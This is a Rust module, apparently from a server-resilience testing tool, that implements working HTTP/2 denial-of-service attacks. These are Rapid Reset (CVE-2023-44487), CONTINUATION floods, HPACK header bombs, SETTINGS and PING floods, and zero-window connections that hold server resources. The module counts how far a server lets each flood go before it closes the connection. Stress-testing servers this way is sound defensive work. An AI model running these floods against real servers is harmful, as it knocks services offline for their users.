//! How is HTTP/2 abused? By frames that cost their sender next to nothing, as fast as they are taken, on one connection
//! after the other; or by asking for much and taking nothing of it.

use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::Context;

use crate::load::http2::{
    ACK, CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame,
};
use crate::process::{PATIENCE, pause};
use crate::site::HOST;

/// How many frames are written at once, about.
const BATCH: u32 = 100;

/// As the value of a header, it fills the table that both sides keep.
const LARGE: usize = 3900;

/// How often one header refers to it: eleven megabytes of headers in three thousand bytes.
const TIMES: usize = 3000;

/// Connections that take nothing, and what each asks for.
pub(crate) const HOLDERS: usize = 8;
pub(crate) const STREAMS: u32 = 100;

/// What is done without end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// A request, and at once its end (CVE-2023-44487).
    Resets,
    /// A head that goes on and on (CVE-2024-27316 and its like).
    Continuations,
    Settings,
    Pings,
    /// Small heads that become large ones (CVE-2016-6581 and its like).
    Bombs,
}

/// What came of it.
#[derive(Debug, Default)]
pub(crate) struct Flooded {
    /// Frames that were taken, in all.
    pub(crate) frames: u64,
    pub(crate) connections: u64,
    /// After how many frames the first connection ended; none if it did not.
    pub(crate) ended_after: Option<u64>,
    /// The code of the first GOAWAY.
    pub(crate) told: Option<u32>,
}

/// Goes on until then; whenever a connection is ended, with another one.
pub(crate) fn flood(to: SocketAddr, what: Flood, until: Instant) -> anyhow::Result<Flooded> {
    let mut all = Flooded::default();
    while Instant::now() < until {
        let Ok(socket) = TcpStream::connect_timeout(&to, PATIENCE) else {
            pause();
            continue;
        };
        socket.set_nodelay(true)?;
        socket.set_write_timeout(Some(Duration::from_millis(100)))?;
        let (frames, told, ended) = one(socket, what, until)?;
        all.connections += 1;
        all.frames += frames;
        all.told = all.told.or(told);
        if all.connections == 1 && ended {
            all.ended_after = Some(frames);
        }
    }
    Ok(all)
}

/// One connection: how many frames were taken, what was said to it, and whether it was ended.
fn one(mut socket: TcpStream, what: Flood, until: Instant) -> anyhow::Result<(u64, Option<u32>, bool)> {
    /// That no GOAWAY has come.
    const NOTHING: u64 = u64::MAX;
    let told = AtomicU64::new(NOTHING);
    let reader = socket.try_clone()?;
    let (frames, ended) = std::thread::scope(|scope| {
        // Nothing of what comes may stay in the way.
        scope.spawn(|| read(reader, |code| told.store(code.into(), Ordering::Relaxed)));
        let mut next = what.begin();
        let (mut stream, mut frames) = (3, 0);
        let ended = loop {
            let (bytes, count) = next;
            if !write(&mut socket, &bytes, until) {
                break Instant::now() < until;
            }
            frames += u64::from(count);
            if Instant::now() > until || stream > i32::MAX as u32 / 2 {
                break false;
            }
            next = what.batch(stream);
            stream += 2 * BATCH;
        };
        // So that the reader ends, too; it may have been ended already.
        let _gone = socket.shutdown(Shutdown::Both);
        (frames, ended)
    });
    let told = told.into_inner();
    Ok((frames, if told == NOTHING { None } else { u32::try_from(told).ok() }, ended))
}

/// Writes all of it, unless the other side ends or the time is up.
fn write(socket: &mut TcpStream, mut bytes: &[u8], until: Instant) -> bool {
    while !bytes.is_empty() {
        match socket.write(bytes) {
            Ok(count @ 1..) => bytes = &bytes[count..],
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Ok(_) | Err(_) => return false,
        }
        if Instant::now() > until {
            return false;
        }
    }
    true
}

/// Reads to the end, and tells of each GOAWAY.
fn read(mut socket: TcpStream, goes_away: impl Fn(u32)) {
    let mut bytes = Vec::new();
    let mut block = [0; 64 * 1024];
    while let Ok(count @ 1..) = socket.read(&mut block) {
        bytes.extend_from_slice(&block[..count]);
        let mut at = 0;
        while let Some([a, b, c, kind, ..]) = bytes.get(at..at + 9) {
            let end = at + 9 + u32::from_be_bytes([0, *a, *b, *c]) as usize;
            let Some(body) = bytes.get(at + 9..end) else { break };
            if let (GOAWAY, Some(code)) = (*kind, body.get(4..).and_then(<[u8]>::first_chunk)) {
                goes_away(u32::from_be_bytes(*code));
            }
            at = end;
        }
        bytes.drain(..at);
    }
}

impl Flood {
    /// What a connection begins with, and how many frames that is.
    fn begin(self) -> (Vec<u8>, u32) {
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            Flood::Continuations => bytes.extend(frame(HEADERS, END_STREAM, 1, &get("/"))),
            Flood::Bombs => {
                // It enters the table, as its entry 62 (RFC 7541, section 6.2.1).
                let mut head = get("/");
                head.extend([0x40, 1, b'x', 0x7f]);
                head.extend([((LARGE - 0x7f) & 0x7f) as u8 | 0x80, ((LARGE - 0x7f) >> 7) as u8]);
                head.extend(vec![b'y'; LARGE]);
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &head));
            }
            Flood::Resets | Flood::Settings | Flood::Pings => {}
        }
        (bytes, 2)
    }

    /// Some of it, from this stream on, and how many frames that is.
    fn batch(self, stream: u32) -> (Vec<u8>, u32) {
        let streams = (0..BATCH).map(|number| stream + 2 * number);
        let frames: Vec<Vec<u8>> = match self {
            Flood::Resets => {
                // CANCEL
                let end = |stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                let begin = |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &get("/1m"));
                streams.flat_map(|stream| [begin(stream), end(stream)]).collect()
            }
            Flood::Continuations => {
                // A header of a kilobyte, in full and not to be remembered.
                let mut line = vec![0, 1, b'x', 0x7f, (1000 - 0x7f) as u8 & 0x7f | 0x80, ((1000 - 0x7f) >> 7) as u8];
                line.extend(vec![b'y'; 1000]);
                vec![frame(CONTINUATION, 0, 1, &line); BATCH as usize]
            }
            // INITIAL_WINDOW_SIZE, as it was.
            Flood::Settings => vec![frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]); BATCH as usize],
            Flood::Pings => vec![frame(PING, 0, 0, &[0; 8]); BATCH as usize],
            Flood::Bombs => {
                let head = [get("/"), vec![0x80 | 62; TIMES]].concat();
                streams.map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &head)).collect()
            }
        };
        let count = frames.len() as u32;
        (frames.concat(), count)
    }
}

/// RFC 7541: `:method: GET`, `:scheme: http` by their places in the static table; the others in full.
fn get(path: &str) -> Vec<u8> {
    let mut head = vec![0x82, 0x86, 0x04, path.len() as u8];
    head.extend(path.bytes());
    head.extend([0x01, HOST.len() as u8]);
    head.extend(HOST.bytes());
    head
}

/// Connections that ask for a megabyte on each of their streams, and have room for nothing; they last as long as they
/// are held.
pub(crate) fn hold(to: SocketAddr) -> anyhow::Result<Vec<TcpStream>> {
    let one = |_| {
        let mut socket = TcpStream::connect_timeout(&to, PATIENCE).context("no connection")?;
        let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
        let asks = (0..STREAMS).map(|number| frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &get("/1m")));
        socket.write_all(&[PREFACE.to_vec(), settings, frame(SETTINGS, ACK, 0, &[])].concat())?;
        socket.write_all(&asks.collect::<Vec<_>>().concat())?;
        Ok(socket)
    };
    (0..HOLDERS).map(one).collect()
}
